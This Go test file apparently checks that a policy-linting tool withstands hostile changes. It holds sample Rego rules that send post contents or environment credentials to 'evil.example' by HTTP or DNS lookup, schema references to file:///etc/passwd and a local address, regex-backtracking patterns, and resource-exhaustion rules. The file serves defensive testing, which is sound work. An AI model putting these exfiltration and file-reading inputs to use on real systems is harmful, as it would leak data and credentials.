package hostile

import "strings"

const (
	newRule   = "policies/rules/mine.rego"
	newStyle  = "policies/style/Claims/Mine.yml"
	newSchema = "schema/post.schema.json"
)

// mine brings a rule about posts.
func mine(body, needs string) func(*Repo) {
	return func(r *Repo) { r.Write(newRule, ruleText("mine", body, needs)) }
}

// quiet is a rule that finds nothing in any post.
var quiet = mine(`deny contains {"at": ["body"]} if contains(input.doc.body, "!!!!")`, "doc.body")

var quietNotes = []string{"warning trusted-part-changed " + newRule}

func styleRule(token string) string {
	return "extends: existence\nmessage: \"“%s” is not said.\"\nlevel: error\ntokens:\n  - '" + token + "'\ntests:\n  - {input: \"Nothing.\", want: []}\n"
}

func newToken(token string) func(*Repo) {
	return func(r *Repo) { r.Write(newStyle, styleRule(token)) }
}

// reference points a schema at an address.
func reference(address string) func(*Repo) {
	return func(r *Repo) {
		r.Edit(newSchema, `"properties": {`, `"properties": {"mine": {"title": "Mine", "description": "Mine.", "$ref": "`+address+`"},`)
	}
}

// onPosts are findings of a rule in every post of the organisation.
func onPosts(rule string) []string {
	var lines []string
	for _, path := range []string{oldPost, duePost, "calendar/north/2026/10/night.md", "calendar/south/2026/10/first-aid.md"} {
		lines = append(lines, "+ error "+rule+" "+path)
	}
	return lines
}

var regoAttacks = []Attack{
	{ID: "rule-sends-data-away", Title: "A rule that sends what it reads to a stranger", Row: "rego",
		Does:   "Brings a rule that makes a request with the text of each post.",
		Holds:  "There is no such built-in: the rule is an error at its place, and is never run.",
		Change: mine(`deny contains {"at": ["id"]} if http.send({"method": "post", "url": "https://evil.example", "body": input.doc}).status_code == 200`, "doc"),
		Want: Want{Needs: byTwo, Findings: []string{
			"error rule-broken policies/rules/mine.rego",
			"warning trusted-part-changed policies/rules/mine.rego",
		}, Effect: []string{}}, Twin: quiet, Notes: quietNotes},
	{ID: "rule-reads-environment", Title: "A rule that reads the credentials of the machine", Row: "rego",
		Does:   "Brings a rule that prints the environment into its message.",
		Holds:  "There is no such built-in.",
		Change: mine(`deny contains {"at": ["id"], "args": {"x": json.marshal(opa.runtime().env)}}`, ""),
		Want: Want{Needs: byTwo, Findings: []string{
			"error rule-broken policies/rules/mine.rego",
			"warning trusted-part-changed policies/rules/mine.rego",
		}, Effect: []string{}}, Twin: quiet, Notes: quietNotes},
	{ID: "rule-looks-up-names", Title: "A rule that tells a name server what it reads", Row: "rego",
		Does:   "Brings a rule that looks up an address made of the text of a post.",
		Holds:  "There is no such built-in.",
		Change: mine(`deny contains {"at": ["id"]} if net.lookup_ip_addr(concat(".", [input.doc.id, "evil.example"]))`, "doc.id"),
		Want: Want{Needs: byTwo, Findings: []string{
			"error rule-broken policies/rules/mine.rego",
			"warning trusted-part-changed policies/rules/mine.rego",
		}, Effect: []string{}}, Twin: quiet, Notes: quietNotes},
	{ID: "rule-throws-dice", Title: "A rule that passes now and then", Row: "rego",
		Does:   "Brings a rule that asks the clock and throws dice, so that trying often enough passes.",
		Holds:  "Built-ins whose answer differs from run to run are not there.",
		Change: mine(`deny contains {"at": ["id"]} if rand.intn("x", time.now_ns()) > 3`, ""),
		Want: Want{Needs: byTwo, Findings: []string{
			"error rule-broken policies/rules/mine.rego",
			"warning trusted-part-changed policies/rules/mine.rego",
		}, Effect: []string{}}, Twin: quiet, Notes: quietNotes},
	{ID: "rule-never-ends", Title: "A rule that never ends", Row: "rego", Slow: true,
		Does:   "Brings a rule that compares a billion pairs of numbers.",
		Holds:  "It runs in a child whose time is limited; the verdict on the rest is there all the same.",
		Change: mine(`deny contains {"at": ["id"]} if count([1 | some i in numbers.range(1, 100000); some j in numbers.range(1, 100000); i * j == 0 - 1]) > 0`, ""),
		Want:   Want{Needs: byTwo, Findings: []string{"warning trusted-part-changed policies/rules/mine.rego"}, Effect: []string{"it"}}, Twin: quiet, Notes: quietNotes},
	{ID: "rule-takes-all-memory", Title: "A rule that takes all memory", Row: "rego", Slow: true,
		Does:   "Brings a rule that makes a list of a thousand million numbers.",
		Holds:  "It runs in a child whose memory is limited.",
		Change: mine(`deny contains {"at": ["id"]} if count(numbers.range(1, 1000000000)) > 0`, ""),
		Want:   Want{Needs: byTwo, Findings: []string{"warning trusted-part-changed policies/rules/mine.rego"}, Effect: []string{"it"}}, Twin: quiet, Notes: quietNotes},
	{ID: "rule-in-another-package", Title: "A rule that takes another one's name", Row: "rego",
		Does:  "Brings a file whose package is that of the rule about blackouts, to change what that one finds.",
		Holds: "A file must have the package of its name.",
		Change: func(r *Repo) {
			r.Write(newRule, replaced(ruleText("mine", `deny := set()`, ""), "masthead.rules.mine", "masthead.rules.inside_blackout"))
			onMourning(r)
		},
		Want: Want{Needs: byAll, Findings: []string{
			"error inside-blackout " + newPost,
			"error rule-package-mismatch policies/rules/mine.rego",
			"warning trusted-part-changed policies/rules/mine.rego",
		}, Effect: []string{}}, Twin: quiet, Notes: quietNotes},
	{ID: "rule-names-no-place", Title: "A rule that points at nothing", Row: "rego",
		Does:   "Brings a rule whose finding points outside of every file and mentions a million lines.",
		Holds:  "What a rule says of places is checked before it is used.",
		Change: mine(`deny contains {"at": ["body", "x", "..", "0"], "range": [0 - 5, 99999999], "related": [{"path": "../../etc/passwd", "at": ["x"]}]}`, ""),
		Want:   Want{Needs: byTwo, Findings: []string{"warning trusted-part-changed policies/rules/mine.rego"}, Effect: onPosts("mine")}, Twin: quiet, Notes: quietNotes},
	{ID: "schema-reads-a-file", Title: "A schema that reads a file", Row: "schema-reference",
		Does:   "Lets the schema of posts refer to a file of the machine that judges.",
		Holds:  "Nothing is loaded: such a schema is an error.",
		Change: reference("file:///etc/passwd"),
		Want: Want{Needs: byTwo, Findings: []string{
			"error schema-broken schema/post.schema.json",
			"warning trusted-part-changed schema/post.schema.json",
		}, Effect: onPosts("kind-without-schema"), Raw: []string{"root:x:0:0"}}, Twin: func(r *Repo) { r.Edit(newSchema, `"title": "Post"`, `"title": "A post"`) },
		Notes: []string{"warning trusted-part-changed " + newSchema}},
	{ID: "schema-reads-an-address", Title: "A schema that reads an address", Row: "schema-reference",
		Does:   "Lets the schema of posts refer to a server, which learns who judges and when.",
		Holds:  "Nothing is loaded: such a schema is an error.",
		Change: reference("http://127.0.0.1:9/x.json"),
		Want: Want{Needs: byTwo, Findings: []string{
			"error schema-broken schema/post.schema.json",
			"warning trusted-part-changed schema/post.schema.json",
		}, Effect: onPosts("kind-without-schema")}, Twin: func(r *Repo) { r.Edit(newSchema, `"title": "Post"`, `"title": "A post"`) },
		Notes: []string{"warning trusted-part-changed " + newSchema}},
	{ID: "schema-turns-in-circles", Title: "A schema that refers to itself", Row: "schema-reference",
		Does:   "Lets the schema of posts refer to itself without an end.",
		Holds:  "It is tried in a child with limits only.",
		Change: reference("#/properties/mine"),
		Want: Want{Needs: byTwo, Findings: []string{
			"error schema-broken schema/post.schema.json",
			"warning trusted-part-changed schema/post.schema.json",
		}, Effect: onPosts("kind-without-schema")}, Twin: func(r *Repo) { r.Edit(newSchema, `"title": "Post"`, `"title": "A post"`) },
		Notes: []string{"warning trusted-part-changed " + newSchema}},
	{ID: "slow-pattern", Title: "A pattern that backtracks for ever", Row: "pattern",
		Does:   "Relies on a pattern of the base that other programs need longer than the universe for, and brings its worst text.",
		Holds:  "Matching takes time in proportion to the text.",
		Before: newToken(`(a+)+(a|aa)+[^a]b$`),
		Change: text(fair + " " + strings.Repeat("a", 400)),
		Want:   Want{Needs: byNorth, Findings: []string{"warning text-in-another-language " + newPost}}, Twin: ownLink},
	{ID: "huge-pattern", Title: "A pattern that unfolds to a billion states", Row: "pattern",
		Does:   "Brings a pattern of nested repetitions.",
		Holds:  "A pattern that grows beyond a limit is refused with a reason.",
		Change: newToken(`((a{1,1000}){1,1000}){1,1000}`),
		Want: Want{Needs: byTwo, Findings: []string{
			"error style-pattern-refused policies/style/Claims/Mine.yml",
			"warning trusted-part-changed policies/style/Claims/Mine.yml",
		}, Effect: []string{}}, Twin: newToken(`kestrel ward`),
		Notes: []string{"warning trusted-part-changed " + newStyle}},
	{ID: "pattern-looks-around", Title: "A pattern that cannot be linear", Row: "pattern",
		Does:   "Brings a pattern with a back reference, which no linear engine has.",
		Holds:  "It is refused with a reason.",
		Change: newToken(`(a*)*\1\1\1x`),
		Want: Want{Needs: byTwo, Findings: []string{
			"error style-pattern-refused policies/style/Claims/Mine.yml",
			"warning trusted-part-changed policies/style/Claims/Mine.yml",
		}, Effect: []string{}}, Twin: newToken(`kestrel ward`),
		Notes: []string{"warning trusted-part-changed " + newStyle}},
	{ID: "schema-pattern", Title: "A slow pattern in a schema", Row: "pattern",
		Does:  "Brings a schema whose pattern backtracks in other programs, with its worst text.",
		Holds: "Patterns of schemas are matched in linear time too.",
		Change: func(r *Repo) {
			r.Edit(newSchema, `"properties": {`, `"properties": {"mine": {"title": "Mine", "description": "Mine.", "type": "string", "pattern": "^(a+)+$"},`)
			r.Write(newPost, post("mine: "+strings.Repeat("a", 50_000)+"!\n", fair))
		},
		Want: Want{Needs: byAll, Findings: []string{
			"error misspelt-key " + newPost,
			"warning trusted-part-changed schema/post.schema.json",
		}, Effect: []string{"+ error wrong-form " + newPost, "- error misspelt-key " + newPost}}, Twin: func(r *Repo) { r.Edit(newSchema, `"title": "Post"`, `"title": "A post"`) },
		Notes: []string{"warning trusted-part-changed " + newSchema}},
}
